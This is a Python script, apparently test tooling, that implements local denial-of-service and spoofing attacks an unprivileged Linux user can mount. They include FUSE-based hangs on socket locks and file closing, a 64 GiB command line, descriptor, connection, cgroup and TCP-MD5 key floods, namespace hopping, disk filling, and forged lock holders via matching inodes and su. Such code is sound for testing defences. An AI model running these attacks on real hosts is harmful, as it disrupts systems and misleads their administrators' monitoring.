"""What a user without privileges does to a host: usage: attacks.py ATTACK [ARGUMENT ...].

The program becomes such a user first, in a user namespace of his own. It prints a line once the attack is under
way, and another one whenever somebody falls for it. It ends with its standard input, and with whoever started it.
"""

import codecs
import ctypes
import fcntl
import mmap
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import sys
import tempfile
import time
from collections.abc import Callable, Collection
from functools import partial
from pathlib import Path

USER = 4711
CLONE_FILES, CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x400, 0x20000, 0x10000000, 0x40000000  # linux/sched.h
PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_NAME, PR_SET_MM, PR_SET_MM_MAP = 1, 4, 15, 35, 14  # linux/prctl.h
SIOCSIFFLAGS, IFF_UP = 0x8914, 1  # linux/sockios.h, linux/if.h
LIBC = ctypes.CDLL(None, use_errno=True)
FUSE = os.makedev(10, 229)  # Documentation/admin-guide/devices.txt
MOUNT_POINT = "/mnt"  # in the user's own mount namespace
MOMENT = 0.002  # seconds


def main(attack: str, *arguments: str) -> None:
    """Carry it out."""
    ATTACKS[attack](*arguments)
    sys.stdin.buffer.read()
    os.killpg(0, signal.SIGKILL)  # with everybody who was started


def become_stranger(namespaces: int = 0) -> None:
    """Give up every privilege, then make a user namespace, and these others in it."""
    codecs.lookup("idna")  # for socket: the file is out of his reach
    os.setpgid(0, 0)
    os.setgroups([])
    os.setresgid(USER, USER, USER)
    os.setresuid(USER, USER, USER)
    must(LIBC.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0))
    must(LIBC.unshare(CLONE_NEWUSER | namespaces))
    must(LIBC.prctl(PR_SET_PDEATHSIG, signal.SIGKILL))  # new credentials undo it
    for file, text in (("setgroups", "deny"), ("uid_map", f"0 {USER} 1"), ("gid_map", f"0 {USER} 1")):
        Path("/proc/self", file).write_bytes(text.encode())
    if namespaces & CLONE_NEWNET:
        bring_loopback_up()


def must(result: int) -> int:
    """Raise OSError where a call of libc's failed."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def bring_loopback_up() -> None:
    """Let the network namespace speak to itself."""
    with socket.socket() as sock:
        fcntl.ioctl(sock, SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", IFF_UP))


def started(work: Callable[[], None]) -> int:
    """Have a process do this, and stay; return its id."""
    child = os.fork()
    if not child:
        LIBC.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
        try:
            work()
            signal.pause()
        finally:
            os.killpg(0, signal.SIGKILL)  # nobody waits for what does not come
    return child


def say(word: str) -> None:
    """Print it."""
    print(word, flush=True)


def connected(address: str) -> tuple[socket.socket, socket.socket]:
    """Both ends of a connection to oneself; the first is the one at risk."""
    with socket.create_server((address, 0)) as listener:
        near = socket.create_connection(listener.getsockname())
        return near, listener.accept()[0]


# ------------------------------------------------------------------------ a file system that does not answer

LOOKUP, GETATTR, OPEN, READ, FLUSH, INIT = 1, 3, 14, 15, 25, 26  # linux/fuse.h
ENOSYS = 38
PAGE = 4096
SIZE = 1024 * PAGE


def fuse_device() -> str:
    """Return a path to the device, to which on an ordinary host everybody has access."""
    with tempfile.TemporaryDirectory() as directory:
        device = f"{directory}/fuse"
        os.mknod(device, stat.S_IFCHR, FUSE)
        os.chmod(device, 0o666)
        return f"/proc/self/fd/{os.open(device, os.O_PATH)}"


def mounted(device: str, silent: int, served: Collection[int] = (), on_call: Callable[[], None] | None = None) -> str:
    """Mount a file system with one file, and return the path of the file.

    Its server answers calls of this number to these processes only, and tells of all others.
    """
    fuse = os.open(device, os.O_RDWR)
    options = f"fd={fuse},rootmode=40000,user_id=0,group_id=0"
    must(LIBC.mount(b"x", MOUNT_POINT.encode(), b"fuse", 0, options.encode()))
    started(lambda: _serve(fuse, silent, served, on_call or (lambda: None)))
    os.close(fuse)
    return f"{MOUNT_POINT}/file"


def _serve(fuse: int, silent: int, served: Collection[int], on_call: Callable[[], None]) -> None:
    while True:
        _, call, number, node, _, _, process = struct.unpack_from("<2I2Q3I", os.read(fuse, 1 << 18))
        if call == silent and process not in served:
            on_call()
            continue
        data = b"" if call == silent else _answer(call, node)
        error = 0 if data is not None else -ENOSYS
        os.write(fuse, struct.pack("<IiQ", 16 + len(data or b""), error, number) + (data or b""))


def _answer(call: int, node: int) -> bytes | None:
    if call == INIT:
        return struct.pack("<4I2H2I2H2I", 7, 31, 65536, 0, 16, 12, 65536, 1, 1, 0, 0, 0) + bytes(24)
    if call == LOOKUP:
        return struct.pack("<4Q2I", 2, 1, 100, 100, 0, 0) + _attributes(2)
    if call == GETATTR:
        return struct.pack("<Q2I", 100, 0, 0) + _attributes(node)
    if call == OPEN:
        return struct.pack("<Q2I", 1, 0, 0)
    return None


def _attributes(node: int) -> bytes:
    """struct fuse_attr of the root, or of the one file."""
    mode = 0o40755 if node == 1 else 0o100666
    return struct.pack("<6Q10I", node, SIZE, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, PAGE, 0)


def locked_sockets(address: str, count: str = "1", where: str = "each elsewhere") -> None:
    """So many sockets that are locked for as long as this lives, each in a network namespace of its own, or all "here".

    Each program sends from a page of that file: the kernel holds the lock of the socket until the page comes.
    """
    device = fuse_device()
    become_stranger(CLONE_NEWNS)
    file = os.open(mounted(device, READ, on_call=lambda: say("locked")), os.O_RDONLY)

    def send(page: int) -> None:
        if where != "here":
            must(LIBC.unshare(CLONE_NEWNET))
            bring_loopback_up()
        near, far = connected(address)
        memory = mmap.mmap(file, SIZE, mmap.MAP_PRIVATE, mmap.PROT_READ)
        memory.madvise(mmap.MADV_RANDOM)  # each page is a call of its own
        near.send(memoryview(memory)[page * PAGE : (page + 1) * PAGE])
        far.close()

    for number in range(int(count)):
        started(partial(send, number))


def closing_never_ends(address: str, count: str) -> None:
    """Descriptors that are now a connection's, now those of a file that only this program can close.

    Meanwhile the connections are on their way to this program itself. One that has got keepalive is replaced.
    """
    device = fuse_device()
    become_stranger(CLONE_NEWNS)
    path = mounted(device, FLUSH, served={os.getpid()}, on_call=lambda: say("hung"))
    file = fcntl.fcntl(os.open(path, os.O_RDWR), fcntl.F_DUPFD_CLOEXEC, 1000)
    sending, receiving = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    pairs = [connected(address) for _ in range(int(count))]
    while not select.select([sys.stdin], [], [], MOMENT)[0]:
        for number, (near, far) in enumerate(pairs):
            if near.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE):
                near.close()
                far.close()
                pairs[number] = connected(address)
        numbers = [near.fileno() for near, _ in pairs]
        for near, _ in pairs:
            socket.send_fds(sending, [b"x"], [near.fileno()])
            os.dup2(file, near.detach())
        time.sleep(MOMENT)
        for place, number in enumerate(numbers):
            _, (taken, *_), _, _ = socket.recv_fds(receiving, 1, 1)
            os.dup2(taken, number)
            os.close(taken)
            pairs[place] = socket.socket(fileno=number), pairs[place][1]


# -------------------------------------------------------------------------------------- very much of something

LONG_NAME = "a fifteen bytes"
MAP_NORESERVE = 0x4000  # asm-generic/mman-common.h
SYS_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
TCP_MD5SIG = 14  # linux/tcp.h
KEYS = 640  # a message of 64 KB


def endless_command_line(address: str) -> None:
    """A program whose arguments are 64 GiB long, and whose name is as long as the kernel allows."""
    become_stranger()
    must(LIBC.prctl(PR_SET_NAME, LONG_NAME.encode()))
    LIBC.mmap.restype = LIBC.sbrk.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    size = 64 << 30
    first = LIBC.mmap(None, size, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
    after_name = Path("/proc/self/stat").read_bytes().rpartition(b") ")[2].split()
    code, end_code, stack, data, end_data, heap, environment, end = (
        int(after_name[field - 3])
        for field in (26, 27, 28, 45, 46, 47, 50, 51)  # proc_pid_stat(5)
    )
    layout = (code, end_code, data, end_data, heap, LIBC.sbrk(0), stack, first, first + size, environment, end)
    mm_map = struct.pack("=12Q2I", *layout, 0, 0, 2**32 - 1)  # struct prctl_mm_map
    must(LIBC.prctl(PR_SET_MM, PR_SET_MM_MAP, ctypes.c_char_p(mm_map), ctypes.c_ulong(len(mm_map)), 0))
    held.extend(connected(address))
    say("long")


def shared_table(count: str, descriptors: str) -> None:
    """So many processes that share one table of so many descriptors."""
    become_stranger()
    allow_descriptors()
    for _ in range(int(descriptors)):
        held.append(socket.socket())
    for _ in range(int(count) - 1):
        if not must(LIBC.syscall(SYS_CLONE, CLONE_FILES | signal.SIGCHLD, 0, 0, 0, 0)):
            LIBC.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
            while True:
                LIBC.pause()
    say("shared")


def _new_namespace(address: str) -> tuple[int, str]:
    """Start a process with a connection in a network namespace of its own; return its id, and the ports."""
    reading, writing = os.pipe()

    def inhabit() -> None:
        must(LIBC.unshare(CLONE_NEWNET))
        bring_loopback_up()
        held.extend(connected(address))
        os.write(writing, b"%d %d" % (held[0].getsockname()[1], held[0].getpeername()[1]))
        os.close(writing)

    child = started(inhabit)
    os.close(writing)
    with open(reading, "rb") as end:
        return child, end.read().decode()


def allow_descriptors() -> None:
    """Have as many as are allowed."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def cgroups(directory: str, many: str, deep: str) -> None:
    """So many cgroups beside each other below one's own, and so many below each other."""
    become_stranger()
    os.chdir(directory)
    for number in range(int(many)):
        os.mkdir(f"{number}.service")
    for _ in range(int(deep)):
        os.mkdir("d")
        os.chdir("d")
    say("made")


# ---------------------------------------------------------------------------------------- what hides somebody else


def many_keys(address: str, count: str) -> None:
    """So many connections, with more TCP-MD5 keys than fit into a message about a socket."""
    become_stranger()
    for _ in range(int(count)):
        near, far = connected(address)
        for number in range(KEYS):
            peer = struct.pack("=H2xI120x", socket.AF_INET, socket.htonl(0x0A00_0000 + number))
            near.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, peer + struct.pack("=BBHi80s", 0, 0, 1, 0, b"k"))
        held.extend((near, far))
    say("keys")


def crowd(address: str, count: str) -> None:
    """So many connections."""
    become_stranger()
    allow_descriptors()
    with socket.create_server((address, 0), backlog=int(count)) as listener:
        for _ in range(int(count)):
            held.extend((socket.create_connection(listener.getsockname()), listener.accept()[0]))
    say("connected")


def same_address(address: str, count: str) -> None:
    """So many connections, in a network namespace, with an address that others have too; their process is "crowd"."""
    become_stranger(CLONE_NEWNET)
    allow_descriptors()
    Path("/proc/self/comm").write_bytes(b"crowd")
    for _ in range(int(count)):
        held.extend(connected(address))
    say("connected")


def hoppers(address: str, count: str, namespaces: str) -> None:
    """So many processes that go round so many network namespaces, each of which has another process with a connection.

    They were there before that one. Of each namespace it prints the inode, and the ports of the connection.
    """
    become_stranger()
    channels = [os.pipe() for _ in range(int(count))]
    for reading, _ in channels:
        started(partial(_hop, reading))
    told = []
    for _ in range(int(namespaces)):
        child, ports = _new_namespace(address)
        path = f"/proc/{child}/ns/net"
        told.append(path)
        say(f"{os.stat(path).st_ino} {ports}")
    for _, writing in channels:
        os.write(writing, " ".join(told).encode())


def _hop(reading: int) -> None:
    places = [os.open(path, os.O_RDONLY) for path in os.read(reading, PAGE).decode().split()]
    while True:
        for place in places:
            must(LIBC.setns(place, CLONE_NEWNET))
            time.sleep(MOMENT)


def false_unit(directory: str, name: str, address: str) -> None:
    """Connect from a cgroup of this name below one's own; print whether keepalive is on, now and for each line."""
    become_stranger()
    cgroup = Path(directory, name)
    cgroup.mkdir()
    (cgroup / "cgroup.procs").write_bytes(b"0")
    held.extend(connected(address))
    say(str(bool(held[0].getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE))))
    while sys.stdin.buffer.readline():
        say(str(bool(held[0].getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE))))


def full_disk(directory: str) -> None:
    """No space is left on the file system of this directory, until a line is read."""
    public = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    become_stranger()
    file = os.open("junk", os.O_WRONLY | os.O_CREAT, dir_fd=public)
    for size in (PAGE, 1):
        try:
            while True:
                os.write(file, bytes(size))
        except OSError:
            continue
    say("full")
    sys.stdin.readline()
    os.unlink("junk", dir_fd=public)
    os.close(file)
    say("empty")


def false_holder(lock: str, whose: str, word: str) -> None:
    """Lock a file of the same inode on a file system of one's own.

    The process is root's: that of a user who has su(1) ask for a password, with this word on its command line, or of a
    container that has no user namespace.
    """
    os.setpgid(0, 0)
    inode = os.stat(lock).st_ino
    if whose == "container":
        must(LIBC.unshare(CLONE_NEWNS))
        fcntl.flock(_of_inode(inode), fcntl.LOCK_EX)
        say(str(os.getpid()))
        return
    ours, theirs = socket.socketpair()
    started(lambda: _hand_over(theirs, inode))
    _, (file,), *_ = socket.recv_fds(ours, 1, 1)
    password, _ = os.pipe()  # nobody types one
    su = started(lambda: _ask_for_password(file, password, word))
    while not os.readlink(f"/proc/{su}/exe").endswith("/su"):
        time.sleep(MOMENT)
    say(str(su))


def _hand_over(receiver: socket.socket, inode: int) -> None:
    become_stranger(CLONE_NEWNS)
    socket.send_fds(receiver, [b"."], [_of_inode(inode)])


def _of_inode(inode: int) -> int:
    """Mount a file system, and return a file on it that has this inode."""
    must(LIBC.mount(b"x", MOUNT_POINT.encode(), b"tmpfs", 0, None))
    while True:
        file = os.open(f"{MOUNT_POINT}/file", os.O_RDWR | os.O_CREAT)
        if os.fstat(file).st_ino == inode:
            return file
        os.close(file)
        os.unlink(f"{MOUNT_POINT}/file")


def _ask_for_password(file: int, password: int, word: str) -> None:
    os.setgroups([])
    os.setresgid(USER, USER, USER)
    os.setresuid(USER, USER, USER)
    fcntl.flock(file, fcntl.LOCK_EX)
    os.set_inheritable(file, True)
    os.dup2(password, 0)
    os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
    os.execvp("su", ["su", "-c", word, "root"])


held: list[socket.socket] = []  # as long as the program lives
ATTACKS: dict[str, Callable[..., None]] = {
    each.__name__: each
    for each in (
        *(locked_sockets, closing_never_ends, endless_command_line, shared_table),
        *(many_keys, crowd, same_address, hoppers, full_disk, cgroups, false_unit, false_holder),
    )
}

if __name__ == "__main__":
    main(*sys.argv[1:])
